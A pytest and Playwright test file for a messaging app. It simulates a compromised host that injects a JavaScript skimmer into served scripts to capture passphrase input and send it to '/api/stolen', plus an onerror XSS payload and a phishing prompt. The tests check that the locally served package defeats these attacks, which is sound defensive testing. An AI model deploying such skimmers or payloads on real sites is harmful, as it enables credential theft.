"""Ana works at a host that serves poisoned pages. Who visits it directly is lost; with `enlace open` her code comes from the
package and the poison never runs."""

from threading import Thread

import pytest
from playwright.sync_api import expect

from client.local.server import LocalSite
from client.site import Site
from scripts import served
from tests.browser.test_two_officers_talk import begin_direct, write
from tests.hostile.proxy import Proxy, Trick

POISON = b"""
document.documentElement.dataset.poisoned = "yes";
document.addEventListener("input", ({ target }) => {
  if (target.closest("[data-unlock]")) fetch("/api/stolen?" + encodeURIComponent(target.value));
}, true);
"""


class Poisoned(Trick):
    """Every script has a few lines more. `stolen`: what they sent home."""

    def __init__(self):
        self.stolen, self.scripts = [], 0

    def serve(self, asked, served):
        if asked.path == "/api/stolen":
            self.stolen.append(asked.text)
            served.status, served.data, served.headers = 200, b"{}", {"content-type": "application/json"}
        elif "/js/" in asked.path and served.status == 200:
            served.data += POISON
            self.scripts += 1


@pytest.fixture(scope="module")
def line(host):
    proxy = Proxy(host.urls[0])
    yield proxy
    proxy.close()


@pytest.fixture(scope="module")
def package() -> Site:
    served.main()
    return Site.read(served.OUT)


@pytest.fixture
def local(line, package):
    site = LocalSite(line.url, package, port=0)
    Thread(target=site.serve, daemon=True).start()
    yield site
    site.close()


@pytest.fixture
def at_home(window, local):
    """A browser that came by the address of `enlace open`."""

    def opened(**options):
        made = window(**options)
        made.base = local.door.origin
        made.page.goto(local.door.address)
        return made

    return opened


def test_who_visits_the_poisoned_host_directly_loses_the_seven_words(window, line, ana):
    hers, poison = window(), Poisoned()
    hers.base = line.url
    with line.lying(poison):
        hers.sign_in(ana)
        hers.unlock(ana)
        expect(hers.page.locator("html")).to_have_attribute("data-poisoned", "yes")
    assert any(ana.account.passphrase.split()[3] in said for said in poison.stolen)


def test_with_enlace_open_the_same_host_gets_nothing(at_home, line, ana, bashir):
    poison = Poisoned()
    with line.lying(poison):
        hers = at_home()
        hers.sign_in(ana)
        hers.unlock(ana)
        begin_direct(hers, "Bashir Haddad")
        write(hers, "PalabraPlantadaEnCasa")
        expect(hers.page.locator(".message", has_text="PalabraPlantadaEnCasa")).to_be_visible()
        room = next(
            room
            for room in map(bashir.enlace.room, (row["id"] for row in bashir.enlace.channels()))
            if "PalabraPlantadaEnCasa" in room.texts()
        )
        room.post("Contestado por el socket")
        expect(hers.page.locator(".message", has_text="Contestado por el socket")).to_be_visible()
        for path in ("/", "/cases/", "/cases/new/", "/cases/import/", "/directory/", "/me/", f"/channels/{room.id}/"):
            hers.go(path)
            expect(hers.page.locator("html:not([data-poisoned]) h1").first).to_be_visible()
    assert poison.scripts == 0, "no script was even asked for"
    assert poison.stolen == []


class Writes(Trick):
    """The host's pages hold something more."""

    def __init__(self, path, more, before=b"</main>"):
        self.path, self.more, self.before = path, more, before

    def serve(self, asked, served):
        if asked.path == self.path and "html" in served.headers.get("content-type", ""):
            served.data = served.data.replace(self.before, self.more + self.before)


def test_a_script_in_the_page_stops_the_page_and_says_what_to_do(at_home, line, ana):
    hers = at_home()
    hers.sign_in(ana)
    with line.lying(Writes("/directory/", b"<img src=x onerror='document.documentElement.dataset.poisoned=1'>")):
        hers.go("/directory/")
    page = hers.page
    expect(page.locator("main")).to_contain_text("nada de ella se ejecutó")
    expect(page.locator("main ul")).to_contain_text("onerror")
    assert page.locator("html[data-poisoned]").count() == 0
    assert any("502" in said for said in hers.wrong)
    hers.wrong.clear()


def test_a_page_that_asks_for_the_seven_words_gets_none(at_home, line, ana):
    """Without a script: a lawful form of the sign-in page, under other words."""
    hers = at_home()
    phish = Writes("/signin/", "Por seguridad, escriba sus siete palabras como contraseña.".encode(), b"<form")
    with line.lying(phish):
        hers.go("/signin/")
        expect(hers.page.locator("main")).to_contain_text("escriba sus siete palabras")
        hers.page.fill("#username", ana.account.username)
        hers.page.fill("#password", ana.account.passphrase)
        hers.page.locator("main form button").click()
    expect(hers.page.locator("main")).to_contain_text("No se envió nada")
    assert any("403" in said for said in hers.wrong)
    hers.wrong.clear()


def test_an_invitation_made_at_home_leads_to_the_host(at_home, line, network):
    diego = network["diego"]
    hers = at_home()
    hers.sign_in(diego)
    hers.go("/authority/")
    hers.page.locator("[data-opens=invite]").first.click()
    hers.page.fill("#invite-name", "Rosa Nueva")
    hers.page.fill("#invite-username", "rosa.nueva")
    hers.page.locator("[data-part=invite-send]").click()
    expect(hers.page.locator("#invite-url")).to_contain_text(f"{line.url}/join/")
